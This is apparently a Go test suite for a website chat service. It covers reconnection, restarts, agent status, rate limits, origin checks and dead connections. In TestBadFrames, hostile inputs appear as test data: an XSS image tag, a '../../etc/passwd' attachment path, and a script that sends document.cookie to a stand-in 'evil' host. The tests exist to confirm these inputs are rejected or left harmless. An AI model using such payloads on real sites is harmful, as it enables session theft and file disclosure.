package webchat_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"

	"tandem/digital"
	"tandem/digital/webchat"
	"tandem/store/journey"
)

// TestResume: after a lost connection each message comes once, in order, without a gap.
func TestResume(t *testing.T) {
	r := newRig(t, nil)
	p := r.page()
	w := p.hello(object{"name": "Eva", "page": "https://shop.example/cart"})
	token, conversation := w.text("token"), w.text("conversation")
	if len(token) != 26 || conversation == "" || w["resumed"] != false {
		t.Fatalf("welcome %v", w)
	}
	for i := range 3 {
		p.send(object{"t": "msg.send", "id": fmt.Sprint("m", i), "text": fmt.Sprint("text ", i)})
		if got := p.want("msg.ack"); got.text("id") != fmt.Sprint("m", i) || got.seq() != uint64(i+1) {
			t.Fatalf("ack %v", got)
		}
	}
	_ = p.conn.CloseNow()
	if err := r.hub.Post(conversation, digital.Tell{ID: "t1", Text: "while you were away"}); err != nil {
		t.Fatal(err)
	}
	p = r.page()
	p.send(object{"t": "hello", "token": token, "after": 2})
	w = p.want("welcome")
	if w["resumed"] != true || w.text("token") != "" || w.text("conversation") != conversation {
		t.Fatalf("welcome %v", w)
	}
	for _, want := range []string{"text 2", "while you were away"} {
		if got := p.want("msg.new").object("message"); got.text("text") != want {
			t.Fatalf("got %v, want %q", got, want)
		}
	}
	p.send(object{"t": "msg.send", "id": "m2", "text": "text 2"}) // its ack was lost: repeated
	if got := p.want("msg.ack"); got.seq() != 3 {
		t.Fatalf("ack of a repeat %v", got)
	}
	if got := len(r.incoming()); got != 3 {
		t.Fatalf("%d messages in the record, want 3", got)
	}
}

// TestRestart: a conversation outlives the process; its token still opens it.
func TestRestart(t *testing.T) {
	r := newRig(t, nil)
	p := r.page()
	token := p.hello(object{}).text("token")
	p.send(object{"t": "msg.send", "id": "m1", "text": "before"})
	p.want("msg.ack")
	_ = p.conn.CloseNow()
	r.stop()
	r.restart(nil)
	p = r.page()
	p.send(object{"t": "hello", "token": token})
	p.want("welcome")
	if got := p.want("msg.new").object("message"); got.text("text") != "before" || got.text("id") != "m1" {
		t.Fatalf("got %v", got)
	}
	p.send(object{"t": "msg.send", "id": "m1", "text": "before"})
	if got := p.want("msg.ack"); got.seq() != 1 {
		t.Fatalf("ack of a repeat over a restart %v", got)
	}
}

// TestStates: the page learns of flow, place, agent, typing and what was read.
func TestStates(t *testing.T) {
	r := newRig(t, nil)
	r.house.Route = func(digital.Situation) digital.Route {
		return digital.Route{Script: digital.NewDirect("sales", digital.Defaults().Notices), Flow: "direct"}
	}
	p := r.page()
	id := p.hello(object{}).text("conversation")
	r.house.Wait(func(_ []journey.Event, queue []any, _ []digital.Update) bool { return len(queue) > 0 }, 5*time.Second)
	item := r.house.Commands()[0].(digital.WorkItem).ID
	for _, m := range []digital.Command{
		digital.TellWaiting{Item: item, Position: 3, P50: 40 * time.Second, P80: 90 * time.Second},
		digital.ConnectOffer{Item: item, Epoch: 1, Agent: "anna", Name: "Anna"},
	} {
		if err := r.hub.Post(id, m); err != nil {
			t.Fatal(err)
		}
	}
	if got := p.want("position"); got["position"] != 3.0 || got["p80"] != 90.0 {
		t.Fatalf("position %v", got)
	}
	if got := p.want("state"); got.text("state") != "agent" || got.text("agent") != "Anna" {
		t.Fatalf("state %v", got)
	}
	op := digital.AgentOp{Do: digital.AgentTyping, Conversation: id, Item: item, Epoch: 1, Agent: "anna", On: true}
	if err := r.hub.Act(op, nil); err != nil {
		t.Fatal(err)
	}
	if got := p.want("typing"); got.text("from") != "agent" || got["on"] != true {
		t.Fatalf("typing %v", got)
	}
	p.send(object{"t": "read", "seq": 2})
	if got := p.want("msg.progress"); got.text("delivery") != "read" {
		t.Fatalf("progress %v", got)
	}
	p.send(object{"t": "call"})
	if got := p.want("call"); got.text("by") != "customer" {
		t.Fatalf("call %v", got)
	}
	p.send(object{"t": "bye"})
	if got := p.want("state"); got.text("state") != "closed" {
		t.Fatalf("state %v", got)
	}
	p.send(object{"t": "msg.send", "id": "late", "text": "hello?"})
	if got := p.want("msg.refused"); got.text("code") != webchat.CodeClosed {
		t.Fatalf("refused %v", got)
	}
	p.send(object{"t": "hello", "v": 1, "fresh": true})
	if got := p.want("welcome"); got.text("conversation") == id {
		t.Fatal("the same conversation again")
	}
}

// TestBadFrames: what is no frame is answered and harms nobody; what floods is closed.
func TestBadFrames(t *testing.T) {
	r := newRig(t, nil)
	p := r.page()
	for _, bad := range []string{
		"", "{", "null", "[]", `"hello"`, "42", `{"t":5}`, `{"t":""}`, `{}`, `{"t":"hello","after":-1}`, `{"t":"hello"}{"t":"hello"}`,
		`{"t":"` + strings.Repeat("x", 100) + `"}`, "\x00\xff", `{"t":"hello","facts":[1]}`, strings.Repeat("[", 10000),
	} {
		p.send(bad)
		if got := p.want("error"); got.text("code") != webchat.CodeBadFrame {
			t.Errorf("%.40q: %v", bad, got)
		}
	}
	p.send(object{"t": "msg.send", "id": "m1", "text": "too early"})
	if got := p.want("error"); got.text("code") != webchat.CodeHello {
		t.Errorf("too early: %v", got)
	}
	p.send(object{"t": "hello", "token": strings.Repeat("A", 26)})
	if got := p.want("error"); got.text("code") != webchat.CodeSession {
		t.Errorf("forged token: %v", got)
	}
	p.hello(object{"name": `<img src=x onerror=alert(1)>`})
	for name, c := range map[string]struct {
		frame object
		code  string
	}{
		"no id":     {object{"t": "msg.send", "text": "x"}, webchat.CodeInvalid},
		"empty":     {object{"t": "msg.send", "id": "e"}, webchat.CodeInvalid},
		"too long":  {object{"t": "msg.send", "id": "l", "text": strings.Repeat("x", 4001)}, webchat.CodeTooLong},
		"some file": {object{"t": "msg.send", "id": "f", "text": "x", "attachment": "../../etc/passwd"}, webchat.CodeFile},
	} {
		p.send(c.frame)
		if got := p.want("msg.refused"); got.text("code") != c.code {
			t.Errorf("%s: %v", name, got)
		}
	}
	p.send(object{"t": "rtc.offer", "sdp": "v=0"})
	if got := p.want("error"); got.text("code") != webchat.CodeInvalid {
		t.Errorf("a call where none can be: %v", got)
	}
	script := `<script>fetch('//evil/'+document.cookie)</script>`
	p.send(object{"t": "msg.send", "id": "s", "text": script})
	if got := p.want("msg.new").object("message"); got.text("text") != script {
		t.Errorf("script became %v", got)
	}
	p.send(object{"t": "msg.send", "id": "big", "text": strings.Repeat("x", 70000)})
	if got := p.closes(); got != websocket.StatusMessageTooBig {
		t.Errorf("oversize: closed with %v", got)
	}
	if got := r.incoming(); !slices.Equal(got, []string{script}) {
		t.Errorf("record holds %q", got)
	}
}

// TestDoor: foreign pages, too many sockets, those that say nothing and those that say too much stay outside.
func TestDoor(t *testing.T) {
	r := newRig(t, func(c *webchat.Config, _ *webchat.Parts) {
		c.Origins, c.PerAddress, c.HelloWithin, c.FrameRate = []string{"*.example.org"}, 2, 50*time.Millisecond, 3
	})
	for origin, ok := range map[string]bool{
		"https://shop.example.org": true, "https://evil.test": false, "https://example.org.evil.test": false, "null": false, r.server.URL: true,
	} {
		p, resp, err := r.dial(http.Header{"Origin": {origin}})
		if (err == nil) != ok {
			t.Errorf("origin %s: %v", origin, err)
		}
		if err != nil && (resp == nil || resp.StatusCode != http.StatusForbidden) {
			t.Errorf("origin %s: %v", origin, resp)
		}
		if p != nil && p.closes() != websocket.StatusPolicyViolation {
			t.Errorf("origin %s: a page that says nothing stays", origin)
		}
	}
	r = newRig(t, func(c *webchat.Config, _ *webchat.Parts) { c.PerAddress, c.FrameRate = 2, 3 })
	p := r.page()
	p.hello(object{})
	_ = r.page()
	if _, resp, err := r.dial(nil); err == nil || resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") == "" {
		t.Errorf("a third socket of one address: %v", err)
	}
	for range 20 {
		data, _ := json.Marshal(object{"t": "ping"})
		_ = p.conn.Write(t.Context(), websocket.MessageText, data)
	}
	if got := p.closes(); got != websocket.StatusPolicyViolation {
		t.Errorf("a flood is closed with %v", got)
	}
	if resp, err := http.Post(r.server.URL+"/chat", "text/plain", nil); err != nil || resp.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("post: %v %v", resp.StatusCode, err)
	}
}

// TestRates: who writes or opens too fast is told when to go on.
func TestRates(t *testing.T) {
	r := newRig(t, func(c *webchat.Config, _ *webchat.Parts) {
		c.MessageRate, c.MessageBurst, c.OpenRate, c.OpenBurst = 0.5, 2, 0.01, 2
	})
	p := r.page()
	p.hello(object{})
	for i := range 3 {
		p.send(object{"t": "msg.send", "id": fmt.Sprint(i), "text": "x"})
	}
	if got := p.want("msg.refused"); got.text("code") != webchat.CodeRate || got["retry"].(float64) < 1000 {
		t.Errorf("third message: %v", got)
	}
	r.page().hello(object{})
	p = r.page()
	p.send(object{"t": "hello"})
	if got := p.want("error"); got.text("code") != webchat.CodeRate || got["retry"] == nil {
		t.Errorf("third conversation: %v", got)
	}
}

// TestHalfOpen: a page that is gone without a word is found out; one that is only quiet stays.
func TestHalfOpen(t *testing.T) {
	r := newRig(t, func(c *webchat.Config, _ *webchat.Parts) { c.Silence = time.Second })
	go func() { _ = r.room.Serve(t.Context()) }()
	quiet, dead := r.page(), r.page()
	quiet.hello(object{})
	id := dead.hello(object{}).text("conversation")
	// the dead page reads nothing any more, so that it does not answer pings; the quiet one reads, and so answers
	got := make(chan error, 1)
	go func() {
		_, _, err := quiet.conn.Read(t.Context())
		got <- err
	}()
	gone := r.house.Wait(func(_ []journey.Event, _ []any, updates []digital.Update) bool {
		return slices.ContainsFunc(updates, func(u digital.Update) bool { return u.Kind == digital.Presence && u.Conversation == id && !u.On })
	}, 10*time.Second)
	if !gone {
		t.Fatal("the dead page is still there")
	}
	select {
	case err := <-got:
		t.Fatalf("the quiet page was closed: %v", err)
	default:
	}
	if n := r.room.Sockets(); n != 1 {
		t.Fatalf("%d sockets, want 1", n)
	}
}

// TestNotStored: what is not durable is not acknowledged, and the repeat is.
func TestNotStored(t *testing.T) {
	r := newRig(t, nil)
	p := r.page()
	p.hello(object{})
	r.house.Lose(1)
	p.send(object{"t": "msg.send", "id": "m1", "text": "one"})
	if got := p.want("msg.refused"); got.text("code") != webchat.CodeBusy || got["retry"] == nil || got.text("id") != "m1" {
		t.Fatalf("got %v", got)
	}
	p.send(object{"t": "msg.send", "id": "m1", "text": "one"})
	if got := p.want("msg.ack"); got.seq() != 1 {
		t.Fatalf("got %v", got)
	}
}

// TestLink: a link of a call opens a chat on the call's record.
func TestLink(t *testing.T) {
	r := newRig(t, nil)
	r.house.Know("link-1", "r_call")
	r.page().hello(object{"link": "link-1"})
	events := r.house.Events()
	if len(events) != 1 || events[0].Record != "r_call" || events[0].Kind != journey.ConversationOpened {
		t.Fatalf("record holds %+v", events)
	}
}

// caller notes what it is given.
type caller struct{ frames, gone chan string }

func (c caller) Frame(v webchat.Visit, kind string, frame json.RawMessage) {
	c.frames <- kind + " " + v.Conversation + " " + string(frame)
}
func (c caller) Gone(v webchat.Visit) { c.gone <- v.Conversation }

// TestCaller: frames of the voice pass untouched, both ways.
func TestCaller(t *testing.T) {
	c := caller{make(chan string, 4), make(chan string, 4)}
	r := newRig(t, func(_ *webchat.Config, p *webchat.Parts) { p.Caller = c })
	p := r.page()
	id := p.hello(object{}).text("conversation")
	p.send(`{"t":"rtc.offer","sdp":"v=0\r\n"}`)
	if got, want := <-c.frames, "rtc.offer "+id+` {"t":"rtc.offer","sdp":"v=0\r\n"}`; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	if n := r.room.Tell(id, 0, object{"t": "call.ring", "from": "Anna"}); n != 1 {
		t.Errorf("told %d pages", n)
	}
	if got := p.want("call.ring"); got.text("from") != "Anna" {
		t.Errorf("got %v", got)
	}
	_ = p.conn.CloseNow()
	if got := <-c.gone; got != id {
		t.Errorf("gone %q", got)
	}
}
